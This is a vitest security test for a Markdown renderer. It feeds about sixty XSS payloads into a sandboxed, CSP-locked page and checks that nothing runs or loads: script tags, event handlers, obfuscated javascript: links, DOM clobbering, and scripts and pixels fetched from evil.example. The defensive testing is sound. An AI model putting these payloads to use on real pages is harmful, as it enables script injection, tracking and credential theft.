import { expect, onTestFinished, test } from 'vitest';
import type { renderMarkdown } from './render-markdown.ts';

/** Each tries to run `hit()`, to load from `evil.example`, or to take a name that a page relies on. */
const HOSTILE = [
  '<script>hit()</script>',
  '<ScRiPt src=https://evil.example/x.js></sCrIpT>',
  '<img src=x onerror=hit()>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=hit()>',
  '<svg><script>hit()</script><image href="https://evil.example/x.svg" /></svg>',
  '<svg><animate onbegin=hit() attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit()&gt;">',
  '<math href="javascript:hit()">CLICK</math>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/x) }</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<div style="background:url(https://evil.example/x)">x</div>',
  '<form action=https://evil.example id=location><input name=body></form>',
  '<a id=document name=cookie href=x>x</a><img name=getElementById>',
  '<iframe src="javascript:parent.hit()"></iframe>',
  '<iframe srcdoc="<script>parent.hit()</script>"></iframe>',
  '<object data=https://evil.example/x></object><embed src=https://evil.example/x>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<video src=https://evil.example/x.mp4 onerror=hit() autoplay></video>',
  '<details open ontoggle=hit()>x</details>',
  '<template><img src=x onerror=hit()></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit()>">',
  '<!--><img src=x onerror=hit()>-->',
  '<![CDATA[><img src=x onerror=hit()>]]>',
  '<?php hit() ?><img src=x onerror=hit()',
  '[a](javascript:hit())',
  '[a](jAvAsCrIpT:hit())',
  '[a](java&#9;script:hit())',
  '[a](java&Tab;script:hit())',
  '[a](java&NewLine;script:hit())',
  '[a](javascript&colon;hit())',
  '[a](&#106;avascript:hit())',
  '[a](&#x6A&#x61vascript:hit())',
  '[a](\\javascript:hit())',
  '[a](<java\tscript:hit()>)',
  '[a](\u0001javascript:hit())',
  '[a](vbscript:hit())',
  '[a](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)',
  '[a](file:///etc/passwd)',
  '[a](blob:https://evil.example/1)',
  '[a][r]\n\n[r]: javascript:hit() "x"',
  '<javascript:hit()>',
  '[a](https://ok.example/"onmouseover="hit())',
  '[a](https://ok.example/ \'x" onmouseover="hit()\')',
  '![a](javascript:hit())',
  '![a](https://evil.example/pixel.png)',
  '![a](//evil.example/pixel.png)',
  '![a](data:image/svg+xml,<svg/onload=hit()>)',
  '![a](x" onerror="hit\\(\\))',
  '![a" onerror="hit()](x)',
  '![`a`<img src=x onerror=hit()>][r]\n\n[r]: https://evil.example/x.png',
  '`<img src=x onerror=hit()>`',
  '```<img src=x onerror=hit()>\n<script>hit()</script>\n```',
  '```"><img src=x onerror=hit()>\nx\n```',
  '| <img src=x onerror=hit()> |\n|---|\n| <script>hit()</script> |',
  '# <img src=x onerror=hit()> {#location onclick=hit()}',
  '&lt;img src=x onerror=hit()&gt;',
  '&#60;script&#62;hit()&#60;/script&#62;',
  '__proto__ `__proto__` `constructor` [__proto__]\n\n[__proto__]: javascript:hit()',
  '\u202e\u0000<img src=x onerror=hit()>',
];

const PARTS = new Set(
  ['p', 'br', 'hr', 'blockquote', 'pre', 'code', 'ul', 'ol', 'li', 'strong', 'em', 'del', 'a', 'img'].concat([
    'table',
    'thead',
    'tbody',
    'tr',
    'th',
    'td',
    'h3',
    'h4',
    'h5',
    'h6',
  ]),
);
const ATTRIBUTES = new Set([
  'href',
  'target',
  'rel',
  'title',
  'src',
  'alt',
  'loading',
  'referrerpolicy',
  'start',
  'scope',
  'class',
]);

interface StrictPage extends Window {
  hit: () => void;
  render: typeof renderMarkdown;
  hits: number;
  violations: string[];
}

/**
 * A page that takes a string for HTML nowhere, and loads nothing but code: what a text makes it try is a violation. Its
 * policies are listed, and there is none of ours among them.
 */
async function strictPage(): Promise<StrictPage> {
  const frame = document.createElement('iframe');
  const rules =
    `default-src 'none'; script-src 'unsafe-inline' 'self'; connect-src 'self' ws:; ` +
    `require-trusted-types-for 'script'; trusted-types none-of-ours`;
  const module = new URL('./render-markdown.ts', import.meta.url).href;
  frame.srcdoc = `<!doctype html><meta http-equiv="Content-Security-Policy" content="${rules}"><body><script>
    var hits = 0, violations = [];
    function hit() { hits++; }
    addEventListener('securitypolicyviolation', (event) => violations.push(event.violatedDirective + ' ' + event.blockedURI));
  </script><script type="module">
    import { renderMarkdown } from ${JSON.stringify(module)};
    window.render = renderMarkdown;
    parent.postMessage('ready', '*');
  </script>`;
  const ready = new Promise<void>((resolve) => {
    const heard = (event: MessageEvent): void => {
      if (event.data !== 'ready') return;
      removeEventListener('message', heard);
      resolve();
    };
    addEventListener('message', heard);
  });
  document.body.append(frame);
  onTestFinished(() => frame.remove());
  await ready;
  return frame.contentWindow as unknown as StrictPage;
}

test('hostile texts run nothing, load nothing and take no name, in a page that requires Trusted Types', async () => {
  const page = await strictPage();
  const context = { channelColors: new Map(), base: 'https://host.example/a.json', imageOrigins: [] };
  for (const markdown of HOSTILE) {
    const body = page.document.createElement('div');
    page.document.body.append(body);
    body.append(page.render(markdown, context));
    for (const element of body.querySelectorAll('*')) {
      expect(PARTS, markdown).toContain(element.localName);
      for (const { name } of element.attributes) expect(ATTRIBUTES, markdown).toContain(name);
    }
    for (const { href, rel } of body.querySelectorAll('a')) {
      expect(new URL(href).protocol, markdown).toMatch(/^(https?|mailto):$/);
      expect(rel).toBe('noopener noreferrer');
    }
    for (const { src } of body.querySelectorAll('img')) expect(new URL(src).origin).toBe('https://host.example');
  }
  expect(page.document.body.textContent).toContain('<script>hit()</script>');
  // A picture of the story's own is asked for, and the page refuses it: so would it have told of others.
  await expect.poll(() => page.violations.length).toBeGreaterThan(0);
  expect(page.violations.filter((violation) => !/^img-src https:\/\/host\.example\b/.test(violation))).toEqual([]);
  expect(page.hits).toBe(0);
});
